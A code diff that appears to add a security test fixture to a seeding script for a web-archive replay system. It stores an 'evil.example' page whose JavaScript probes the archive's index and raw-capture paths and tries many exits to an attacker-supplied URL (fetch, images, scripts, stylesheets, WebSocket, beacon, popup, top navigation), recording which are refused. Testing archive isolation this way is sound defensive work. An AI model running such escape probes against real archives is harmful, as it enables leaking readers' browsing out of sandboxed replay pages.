@@ -24,6 +24,47 @@ PIXEL = bytes.fromhex(
 )
 
 
+# Frames itself unrewritten and raw, and from there tries every way out that pages know.
+EVIL = """<!doctype html><title>Evil</title><h1>Evil</h1><script>
+const out = LEAK, here = location.pathname, ways = {};
+if (typeof wbinfo !== "undefined" && !here.includes("bn_")) {
+  for (const how of ["bn_", "id_"]) {
+    const frame = document.createElement("iframe");
+    frame.name = how;
+    frame.src = wbinfo.prefix + wbinfo.timestamp + how + "/" + wbinfo.url;
+    document.body.append(frame);
+  }
+} else {
+  const root = "/" + here.split("/")[1] + "/";
+  const read = path => fetch(path).then(answer => answer.status, () => 0);
+  const sent = (name, attempt) => Promise.resolve().then(attempt)
+    .then(() => { ways[name] = "done"; }, () => { ways[name] = "refused"; });
+  const load = (tag, name, more) => new Promise((good, bad) => {
+    const one = document.createElement(tag);
+    Object.assign(one, more, {onload: good, onerror: bad});
+    one[name] = out + tag;
+    document.body.append(one);
+  });
+  (async () => {
+    ways.page = await read(root + "20260301120000mp_/http://site.example/");
+    ways.index = await read(root + "cdx?url=site.example&matchType=host");
+    ways.list = await read(root + "*/http://site.example/");
+    await sent("fetch", () => fetch(out + "fetch", {mode: "no-cors"}));
+    await sent("image", () => load("img", "src"));
+    await sent("script", () => load("script", "src"));
+    await sent("style", () => load("link", "href", {rel: "stylesheet"}));
+    await sent("socket", () => new Promise((good, bad) => {
+      Object.assign(new WebSocket(out.replace("http", "ws") + "socket"), {onopen: good, onerror: bad});
+    }));
+    navigator.sendBeacon(out + "beacon", "x");
+    ways.popup = String(window.open(out + "popup"));
+    try { top.location = out + "top"; } catch (error) { ways.top = "refused"; }
+    document.documentElement.dataset.ways = JSON.stringify(ways);
+  })();
+}
+</script>"""
+
+
 def main() -> None:
     def at(day: int) -> datetime:
         return datetime(2026, 3, day, 12, tzinfo=UTC)
@@ -43,6 +84,8 @@ def main() -> None:
         kept["private"] = keeper.keep(
             "http://secret.example/", "<p>secret", at=at(2), collection="cultural"
         ).pk
+        evil = EVIL.replace("LEAK", json.dumps(sys.argv[1] if len(sys.argv) > 1 else "http://127.0.0.2:9/"))
+        kept["evil"] = keeper.keep("http://evil.example/", evil, at=at(3)).pk
     sys.stdout.write(json.dumps(kept))
 
 
